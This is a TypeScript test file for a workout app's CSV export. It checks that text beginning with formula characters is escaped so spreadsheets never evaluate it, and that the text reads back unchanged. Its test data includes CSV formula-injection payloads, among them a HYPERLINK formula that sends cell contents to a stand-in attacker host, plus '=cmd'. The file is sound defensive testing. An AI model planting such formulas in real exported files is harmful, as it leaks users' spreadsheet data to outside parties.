import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Workout } from '../workouts/workout.ts';
import { setRows, workoutRow } from './archive.ts';
import { createCsvRows } from './csv-rows.ts';
import { readAll } from './testing/read-all.ts';
import { planned, workout } from './testing/written-workout.ts';
import { type CsvValue, writeCsvRow } from './write-csv.ts';
import { strongHeader, strongRows } from './write-strong.ts';

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Bench")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1+1',
  "'=1",
  "''-1",
];

const written = (value: CsvValue): string => writeCsvRow([value, 'x']).slice(0, -4);

const readBack = (...cells: string[]): readonly string[] => {
  const csv = createCsvRows(',');
  return [...csv.read(writeCsvRow([...cells, 'end'])), ...csv.end()][0]?.fields.slice(0, -1) ?? [];
};

// Promise (1.2.10): Text in CSV files is never a formula, and is read back as it was.
test.each(formulas)('%j is no formula in a spreadsheet, and is read back as it was', (text) => {
  expect(written(text).replace(/^"/, '')).toMatch(/^'/);
  expect(readBack(text)).toEqual([text]);
});

test('numbers stay numbers, and text that is no formula stays as it is', () => {
  expect(writeCsvRow([-20, 0.5, "'quoted'", 'a=b', '', true, null])).toBe("-20,0.5,'quoted',a=b,,true,\r\n");
});

test('any text is read back as it was', () => {
  const sign = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', ',', '"', 'a');
  fc.assert(
    fc.property(fc.array(fc.string({ unit: sign, maxLength: 6 }), { minLength: 1, maxLength: 4 }), (cells) => {
      expect(readBack(...cells)).toEqual(cells);
    }),
  );
});

const hostile: Workout = {
  ...workout,
  title: formulas[0] ?? '',
  notes: '@notes',
  moves: [{ mid: 'm', exerciseId: '-m', reps: 5, weight: -20, unit: 'kg', note: '-1', rpe: 8 }],
  extraMoves: [planned('m', '=cmd')],
};

const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell));

// Promise (1.2.10): Text in CSV files is never a formula, and is read back as it was.
test('no cell of the tables in an archive is a formula', () => {
  const tables = [workoutRow(hostile, null), ...setRows(hostile, new Map([['m', '=cmd']]))];
  for (const row of tables) {
    // Read as a spreadsheet would: marks are not taken away.
    const cells = row.map(written).map((cell) => cell.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"'));
    expect(cells.filter(isFormula)).toEqual([]);
  }
});

test('a file in the dialect of Strong holds no formula, and our own reader reads what was logged', () => {
  const text = `${strongHeader({ units: 'kg' })}${strongRows(hostile, 1, { units: 'kg', timeZone: 'UTC', exerciseNames: new Map() })}`;
  expect(text).toContain(",'=cmd,1,-20,5,8,0,0,'-1,'@notes");
  const [read] = readAll(text).workouts;
  expect(read).toMatchObject({
    title: hostile.title,
    notes: '@notes',
    exercises: [{ name: '=cmd', sets: [{ weight: -20, reps: 5, note: '-1' }] }],
  });
});
